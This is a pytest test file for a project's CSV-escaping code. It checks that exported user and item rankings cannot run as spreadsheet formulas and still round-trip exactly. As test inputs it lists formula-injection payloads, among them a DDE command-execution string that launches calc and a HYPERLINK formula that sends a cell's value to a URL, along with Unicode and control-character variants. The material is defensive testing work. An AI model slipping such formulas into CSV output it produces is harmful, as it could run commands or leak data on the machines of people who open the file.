"""CSV that leaves the project holds no formula, and gives every id and name back."""

import csv
import io

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fused_rec.data.io.csv_safety import escape_csv, unescape_csv
from fused_rec.serving.write_rankings import WRITERS

FORMULAS = [
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|'/C calc'!A0",
        '=HYPERLINK("http://a/?"&A1)',
        "  =1",
        "\t=1",
        "\r=1",
        "\n@a",
    ),
    *(
        "\tplain",
        "\rplain",
        "\nplain",
        "\ufeff=1",
        "\u200b=1",
        "\u00a0-1",
        "\x00=1",
        "\x1b+1",
        "＝1",
        "＋1",
        "－1",
        "＠a",
    ),
]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_what_may_be_computed_is_quoted(text):
    assert escape_csv(text) == "'" + text and unescape_csv(escape_csv(text)) == text


@pytest.mark.parametrize("text", ["", "u1", "007", "1.5", "a=b", "a-b", "x@y.z", " a", "Żółw", "1+1", "é=", "a'b"])
def test_what_is_plain_stays(text):
    assert escape_csv(text) == text == unescape_csv(text)


@pytest.mark.parametrize("text", ["'", "'a", "'=1", " '", "''"])
def test_an_apostrophe_of_ones_own_survives(text):
    assert escape_csv(text) == "'" + text and unescape_csv(escape_csv(text)) == text


HOSTILE = st.text(
    st.one_of(st.sampled_from("=+-@'\t\r\n \u00a0\ufeff＝\",;"), st.characters(codec="utf-8")), max_size=8
)


@settings(max_examples=300, deadline=None)
@given(HOSTILE, HOSTILE)
def test_laws(one, other):
    """No cell starts as a formula does, quoting is undone exactly, and no two texts share a cell."""
    assert escape_csv(one).strip()[:1] not in set("=+-@＝＋－＠") or escape_csv(one).startswith("'")
    assert unescape_csv(escape_csv(one)) == one
    assert (escape_csv(one) == escape_csv(other)) == (one == other)


def test_ranked_csv_is_harmless_and_parquet_exact(tmp_path):
    ids = [*FORMULAS, "u1", 'say "hi", you; and\nyou', "'a", ";=1"]
    ranked = pa.table(
        {
            "user_id": ids,
            "rank": pa.array(range(1, len(ids) + 1), pa.int32()),
            "item_id": ids[::-1],
            "score": pa.array(np.linspace(-1, 1, len(ids)), pa.float32()),
        }
    )
    for suffix, write in WRITERS.items():
        write([ranked], tmp_path / f"ranked{suffix}")
    assert pq.read_table(tmp_path / "ranked.parquet").equals(ranked)
    content = (tmp_path / "ranked.csv").read_bytes().decode()
    _, *rows = csv.reader(io.StringIO(content, newline=""))
    assert [unescape_csv(row[0]) for row in rows] == ids and [unescape_csv(row[2]) for row in rows] == ids[::-1]
    assert [np.float32(row[3]) for row in rows] == ranked["score"].to_pylist()  # and a score below 0 is a number
    for row in rows:
        for cell in (row[0], row[2]):
            assert cell[0] == "'" or cell.lstrip()[0] not in "=+-@"
    assert ';=1"' in content  # quoted, so that it stays one cell where the separator is ;
